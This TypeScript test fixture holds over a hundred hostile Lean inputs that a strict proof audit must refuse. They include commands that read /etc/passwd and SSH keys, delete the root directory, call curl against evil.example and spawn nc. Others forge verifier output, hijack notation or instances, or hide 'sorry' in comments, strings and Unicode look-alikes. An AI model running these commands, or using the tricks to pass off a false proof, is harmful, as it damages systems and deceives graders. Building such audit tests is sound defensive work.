/**
 * More than a hundred texts that try to do harm, to hide, or to forge, beside the cheats of test/repl/cheats.ts. The strict audit must refuse every one. They are
 * written for this kit from what Lean, Mathlib and its client packages can do while a text is read; that Lean itself runs each of them was not tried.
 */
const SIGNATURE = "theorem asked (n : ℕ) (h : 0 < n) : n < 1 := by";

/** What is asked for; false, so that nothing proves it. */
export const ASKED = `${SIGNATURE} sorry`;

export interface Hostile {
  readonly group: string;
  readonly what: string;
  readonly code: string;
}

const before = (group: string, ...texts: string[]): Hostile[] => texts.map((text) => ({ group, what: text, code: `${text}\n${SIGNATURE}\n  omega` }));
const inside = (group: string, ...texts: string[]): Hostile[] => texts.map((text) => ({ group, what: text, code: `${SIGNATURE}\n  ${text}` }));
const whole = (group: string, ...texts: string[]): Hostile[] => texts.map((text) => ({ group, what: text, code: text }));

export const HOSTILE_LEAN: readonly Hostile[] = [
  ...before(
    "files",
    '#eval IO.FS.readFile "/etc/passwd"', '#eval IO.FS.removeDirAll "/"', 'def secret : String := include_str "/etc/passwd"', '#eval (IO.FS.writeFile "x" "y" : IO Unit)', "#eval IO.FS.readFile <| System.FilePath.mk \".env\"",
    'run_cmd do let s ← IO.FS.readFile "/root/.ssh/id_rsa"; Lean.logInfo s', "initialize do IO.FS.createDirAll \"x\"", 'open IO.FS in\n#eval readFile "x"', 'open System IO in\ndef p : FilePath := "x"', 'open IO\n#eval FS.readFile "x"',
  ),
  ...inside("files", 'exact absurd (include_str "/etc/passwd") (by simp)', 'bv_check "proof.lrat"', 'run_tac do discard <| IO.FS.readFile "x"', 'exact (by_elab do discard <| IO.FS.readFile "x"; return default)'),
  ...before(
    "network", '#eval IO.Process.output { cmd := "curl", args := #["http://evil.example"] }', "#loogle \"sorry\"", '#leansearch "n < 1."', '#moogle "n < 1."', '#statesearch', '#search "n < 1."', "#check_online", '#eval IO.Process.spawn { cmd := "nc" }',
  ),
  ...inside("network", "polyrith", "#loogle Nat", "#leansearch \"n < 1?\"", "llmstep \"\"", "aesop_search_online_via #eval 1"),
  ...before("processes", '#eval IO.Process.exit 0', '#eval IO.Process.output { cmd := "sh", args := #["-c", "kill -9 1"] }', "#eval! (unsafeIO (IO.sleep 100000)).toOption", "#eval (dbgSleep 1000000 fun _ => 1)", "#reduce (List.range 1000000).length", "#eval panic! \"x\"", "#guard IO.getNumHeartbeats = 0", "#exec foo", "#test 1 = 1", "#simp 1 = 1", "#sample Nat", "#html 1", "#widget w"),
  ...before(
    "forged replies", '#eval IO.println "{\\"env\\": 0}\\n\\n"', 'run_cmd Lean.logInfo "\'_kit_chk\' does not depend on any axioms"', '#eval (IO.getStdout >>= fun o => o.putStr "{}" : IO Unit)', 'elab "#print" "axioms" i:ident : command => Lean.logInfo "none"', 'macro "#print axioms" : command => `(#check 1)',
    'syntax "#print" "axioms" ident : command', "theorem _kit_chk_0 : True := trivial", "theorem _kit_ref_0 : True := trivial", "def _root_._kit_chk_1 := 1",
  ),
  ...before("axioms", "axiom a : False", "private axiom a : False", "@[simp] axiom a : ∀ n : ℕ, n < 1", "protected axiom Nat.a : False", "opaque a : False", "noncomputable opaque a : False", "theorem a : False := by sorry", "theorem a : False := by\n  native_decide", "theorem a : False := Lean.ofReduceBool false true rfl", "theorem a : False := by decide +native", "mutual\naxiom a : False\nend", "axiom\n  a : False", "/-- doc -/ axiom a : False", "set_option maxRecDepth 100 in axiom a : False", "open Nat in axiom a : False"),
  ...before(
    "notation", 'notation "ℕ" => Fin 1', 'notation3 "ℕ" => Fin 1', 'local notation:max "n" => 0', 'scoped infixl:50 " < " => Nat.le', 'prefix:max "¬" => id', 'postfix:max "!" => id', 'macro "omega" : tactic => `(tactic| sorry)', 'macro_rules | `(tactic| omega) => `(tactic| skip)', "binder_predicate x \" < \" y:term => `(True)",
    'elab_rules : tactic | `(tactic| omega) => return', 'declare_syntax_cat foo', "local macro_rules | `($a < $b) => `(True)", "unif_hint (a b : ℕ) where ⊢ a =?= b", "@[macro_inline] def f := 1\nmacro \"x\" : term => `(1)", "export Nat (lt le)", "open Nat renaming succ → pred", "open Real renaming sqrt → sin",
  ),
  ...before(
    "attributes", "@[default_instance high] def d : HAdd ℕ ℕ ℕ := ⟨fun a _ => a⟩", "@[instance] def l : LT ℕ := ⟨fun _ _ => True⟩", "@[local instance] def l : LT ℕ := ⟨fun _ _ => True⟩", "@[instance 10000] abbrev l : OfNat ℕ 1 := ⟨5⟩", "@[norm_num _ < _] def e : Mathlib.Meta.NormNum.NormNumExt where eval _ := failure", "@[positivity _] def e : Mathlib.Meta.Positivity.PositivityExt where eval _ _ _ := failure", "@[tactic omega] def e : Unit := ()",
    "@[implemented_by id] def f : ℕ → ℕ := fun _ => 0", "@[csimp] theorem c : @f = @g := rfl", "@[extern \"system\"] def f : ℕ → ℕ := id", "@[export main] def f := 1", "@[init] def f : Unit := ()", "attribute [-simp] Nat.lt_irrefl", "attribute [instance] foo", "attribute [local simp] foo", "@[simp, implemented_by g] def f := 1", "@[command_elab foo] def e := 1", "@[simproc] def e := 1", "simproc e (_ < _) := fun _ => failure", "dsimproc e (_ < _) := fun _ => failure", "@[unused_variables_ignore_fn] def e := 1", "@[run_builtin_parser_attribute_hooks] def e := 1", "@[delab app.lt] def e := 1", "@[app_unexpander LT.lt] def e := 1", "@[coe_delab] def e := 1", "@[deriving_handler] def e := 1",
  ),
  ...before("shadowing", "def ℕ := Fin 1", "abbrev ℕ : Type := Unit", "structure ℕ where", "inductive ℕ | zero", "class ℕ", "notation \"n\" => 0", "alias ℕ := Fin", "variable (ℕ : Type)", "universe u\nvariable {ℕ : Type u}", "instance : LT ℕ := ⟨fun _ _ => True⟩", "instance (priority := high) : LT ℕ := ⟨fun _ _ => True⟩", "local instance foo : OfNat ℕ 1 := ⟨9⟩", "scoped instance foo : OfNat ℕ 1 := ⟨9⟩", "deriving instance LT for ℕ", "noncomputable instance : LT ℕ := ⟨fun _ _ => True⟩", "namespace Nat", "section\nvariable (n : ℕ) [Fact (n < 1)]", "irreducible_def ℕ := Fin 1", "private def ℕ := Fin 1", "export Foo (ℕ)"),
  ...whole(
    "cut off", `#exit\n${SIGNATURE}\n  omega`, `end\n#exit\n${SIGNATURE}\n  omega`, `# exit\n#exit${"\n"}${SIGNATURE}\n  omega`, `${SIGNATURE}\n  omega\n#exit\naxiom a : False`, `import Mathlib\n#eval 1\nimport Lean\n${SIGNATURE}\n  omega`, `${SIGNATURE}\n  omega\n/- no end`, `${SIGNATURE}\n  exact "no end`, `prelude\n${SIGNATURE}\n  omega`, `module\n${SIGNATURE}\n  omega`,
  ),
  ...inside(
    "gaps that hide", "let c := '\"'\n  sorry\n  let d := '\"'", "let c := '\\\"'\n  sorry\n  let d := '\"'", "let c := '\\''\n  sorry", "have h' := 1; let s := h'\n  sorry --'", "let s := r\"\\\"\n  sorry\n  let t := \"\"", 'let s := r#"a"b"#\n  sorry\n  let t := r#"c"#', 'let s := s!"{(sorry : ℕ)}"', 'let s := s!"a{s!"{(sorry : ℕ)}"}"', 'let s := "\\\\"\n  sorry\n  let t := "\\\\"', "let «\"» := 1\n  sorry\n  let «\"\"» := 1", "let «/-» := 1\n  sorry\n  let «-/» := 1", "let «--» := 1; sorry",
    "/- \" -/ sorry /- \" -/", "--/-\n  sorry\n  -- -/", "/- -- -/ sorry", "/- /- -/ -/ sorry", "/-/ -/ sorry", "omega /- -/-/ sorry", "first\n  | sorry\n  | omega", "exact(sorry)", "exact ⟨sorry⟩", "exact @sorry _", "exact h▸sorry", "exact fun_=>sorry", "all_goals(admit)", "(stop)", "· sorry", "decreasing_by sorry", "exact sorryAx _ false", "exact _root_.sorryAx _ false", "exact Lean.Elab.admitGoal", "exact (sorry:)", "by_cases k:n=0<;>sorry", "exact if h:n<1 then h else sorry", "refine?_;sorry", "simp[sorry]", "show_term sorry", "try{sorry}", "sorry|>.elim", "exact (sorryAx.{0}) _", "let x:=«sorryAx» ℕ false", "exact `(sorry)",
  ),
  ...whole(
    "look-alikes", `${SIGNATURE.replace("ℕ", "Ν")}\n  omega`, `${SIGNATURE.replace(" < 1", " ＜ 1")}\n  omega`, `${SIGNATURE.replace("asked", "аsked")}\n  omega`, `${SIGNATURE}\n  -- \u202Esorry\u202C\n  omega`, `${SIGNATURE}\n  omega\u200B`, `${SIGNATURE.replace("0", "О")}\n  omega`, `theorem  asked\u00AD (n : ℕ) (h : 0 < n) : n < 1 := by\n  omega`, `${SIGNATURE}\n  omega -- \u2066x\u2069`, `${SIGNATURE.replace("n < 1", "n <\u2063 1")}\n  omega`, `${SIGNATURE.replace(": 0 < n", ": 0 ≺ n")}\n  omega`, `\uFEFF\uFEFF${SIGNATURE.replace("n < 1", "n ⩽ 1")}\n  omega`,
  ),
  ...whole(
    "another statement", "theorem asked (n : ℕ) (h : 0 < n) : n < 1 ∨ True := by\n  simp", "theorem asked (n : ℕ) (h : 0 < n) : (n < 1) = (n < 1) := by\n  rfl", "theorem asked (n : ℕ) (h : 0 < n) (_ : n < 1) : n < 1 := by\n  assumption", "theorem asked {n : ℕ} (h : n < 0) : n < 1 := by\n  omega", "theorem asked (n : ℕ) (h : 0 < n) : n < 1 → n < 1 := by\n  exact id", "theorem asked (n : ℕ) (h : 0 < n := by omega) : n < 1 := by\n  omega", "theorem asked (n : ℕ) (h : 0 < n) : n < 10 := by\n  omega", "theorem asked.{u} (n : ℕ) (h : 0 < n) (f : False) : n < 1 := by\n  omega", "def asked (n : ℕ) (h : 0 < n) : n < 1 := by\n  omega", "abbrev asked := 1", `theorem asked (n : ℕ) (h : 0 < n) : n < 1 /- :-) -/ ∨ True := by\n  simp`, "example (n : ℕ) (h : 0 < n) : n < n + 1 := by\n  omega", `namespace A\n${SIGNATURE}\n  omega\nend A`, "theorem asked : ∀ (n : ℕ) (h : n < 0), n < 1 := by\n  omega", "macro \"asked\" : command => `(theorem asked : True := trivial)\nasked",
  ),
  ...before("programs", "run_meta pure ()", "run_elab pure ()", "builtin_initialize pure ()", "unsafe def f := 1", "partial def f : ℕ → ℕ := f", "unsafe instance : LT ℕ := ⟨fun _ _ => True⟩", "def f : Lean.Elab.Command.CommandElabM Unit := pure ()", "open Lean Elab Command", "open Lean.Meta", "open _root_.Lean", "def m : MetaM Unit := do Lean.addDecl default", "register_option foo : Bool := { defValue := true }", "register_simp_attr foo", "set_option trace.Elab true", "set_option debug.skipKernelTC true", "set_option pp.all true", "set_option autoImplicit true", "set_option compiler.extract_closed false", "set_option debug.byAsSorry true in", "set_option warn.sorry false", "add_aesop_rules safe (by sorry)", "dbg_trace \"x\"", "elab \"x\" : term => default"),
];
